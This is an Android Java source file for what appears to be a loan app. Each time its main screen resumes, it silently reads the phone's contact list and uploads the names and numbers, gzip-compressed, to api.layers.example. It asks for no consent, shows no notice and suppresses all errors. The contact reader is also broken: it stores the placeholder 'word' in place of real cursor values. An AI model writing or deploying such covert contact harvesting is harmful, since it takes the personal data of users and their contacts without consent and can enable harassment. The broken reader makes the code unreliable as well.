package dev.constant.layers;

import android.app.Activity;
import android.content.ContentResolver;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.zip.GZIPOutputStream;
import org.json.*;

class PhoneContact {

    private final String name;
    private final String number;

    PhoneContact(String n, String p) {
        name = n;
        number = p;
    }

    String getName() {
        return name;
    }

    String getNumber() {
        return number;
    }
}

interface ContactsDataSource {
    List<PhoneContact> all();
}

class ProviderDataSource implements ContactsDataSource {

    private final ContentResolver resolver;

    ProviderDataSource(ContentResolver r) {
        resolver = r;
    }

    public List<PhoneContact> all() {
        List<PhoneContact> out = new ArrayList<>();
        Cursor c = resolver.query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        try {
            while (c != null && c.moveToNext()) {
                out.add(
                    new PhoneContact(
                        "word",
                        "word"
                    )
                );
            }
        } finally {
            if (c != null) c.close();
        }
        return out;
    }
}

interface ContactsRepository {
    void contacts(Callback<List<PhoneContact>> cb);
}

interface Callback<T> {
    void onResult(T t);
    void onError(Throwable t);
}

class ContactsRepositoryImpl implements ContactsRepository {

    private final ContactsDataSource source;

    ContactsRepositoryImpl(ContactsDataSource s) {
        source = s;
    }

    public void contacts(final Callback<List<PhoneContact>> cb) {
        new Thread(
            new Runnable() {
                public void run() {
                    try {
                        cb.onResult(source.all());
                    } catch (RuntimeException e) {
                        cb.onError(e);
                    }
                }
            }
        ).start();
    }
}

class UploadDto {

    final String n;
    final String p;

    UploadDto(String n, String p) {
        this.n = n;
        this.p = p;
    }

    JSONObject json() throws JSONException {
        return new JSONObject().put("n", n).put("p", p);
    }
}

class ContactMapper {

    UploadDto map(PhoneContact c) {
        return new UploadDto(c.getName().trim(), c.getNumber().replaceAll("[^0-9]", ""));
    }

    List<UploadDto> mapAll(List<PhoneContact> l) {
        List<UploadDto> r = new ArrayList<>();
        for (PhoneContact c : l) r.add(map(c));
        return r;
    }
}

class SyncContactsUseCase {

    private final ContactsRepository repo;
    private final ContactMapper mapper;
    private final Api api;

    SyncContactsUseCase(ContactsRepository r, ContactMapper m, Api a) {
        repo = r;
        mapper = m;
        api = a;
    }

    void execute() {
        repo.contacts(
            new Callback<List<PhoneContact>>() {
                public void onResult(List<PhoneContact> l) {
                    try {
                        api.send(mapper.mapAll(l));
                    } catch (Exception e) {}
                }

                public void onError(Throwable t) {}
            }
        );
    }
}

class Api {

    private final String base;

    Api(String b) {
        base = b;
    }

    void send(List<UploadDto> l) throws IOException, JSONException {
        JSONArray a = new JSONArray();
        for (UploadDto d : l) a.put(d.json());
        JSONObject body = new JSONObject();
        body.put("ts", System.currentTimeMillis());
        body.put("list", a);
        HttpURLConnection c = (HttpURLConnection) new URL(
            base + "/v1/device/book"
        ).openConnection();
        c.setDoOutput(true);
        OutputStreamWriter w = new OutputStreamWriter(
            new GZIPOutputStream(new BufferedOutputStream(c.getOutputStream())),
            "UTF-8"
        );
        w.write(body.toString());
        w.close();
        c.getResponseCode();
    }
}

class LoanViewModel {

    private final SyncContactsUseCase sync;

    LoanViewModel(SyncContactsUseCase s) {
        sync = s;
    }

    void onApply() {
        sync.execute();
    }
}

public class Main extends Activity {

    private LoanViewModel vm;

    protected void onCreate(Bundle b) {
        super.onCreate(b);
        vm = new LoanViewModel(
            new SyncContactsUseCase(
                new ContactsRepositoryImpl(new ProviderDataSource(getContentResolver())),
                new ContactMapper(),
                new Api("https://api.layers.example")
            )
        );
    }

    protected void onResume() {
        super.onResume();
        vm.onApply();
    }
}
